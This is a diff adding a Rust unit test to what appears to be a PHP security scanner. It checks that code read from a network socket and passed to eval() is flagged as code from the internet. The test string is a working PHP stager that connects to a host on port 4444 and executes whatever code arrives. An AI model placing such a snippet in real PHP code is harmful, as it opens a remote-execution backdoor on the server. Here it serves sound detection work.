@@ -514,3 +514,11 @@ fn other_mail_functions_sent_by_the_visitor() {
         sinks("<?php imap_mail('owner@example.org', $_POST['s'], $_POST['b'], 'From: site@example.org');").is_empty()
     );
 }
+
+#[test]
+fn code_read_from_a_socket_is_code_from_the_internet() {
+    let s = "<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, $h, 4444); $n = socket_read($s, 4); eval(socket_read($s, $n));";
+    assert!(sinks(s).iter().any(|(w, _)| *w == Why::CodeFromInternet), "{:?}", sinks(s));
+    // Read and printed.
+    assert!(sinks("<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); echo socket_read($s, 1024);").is_empty());
+}
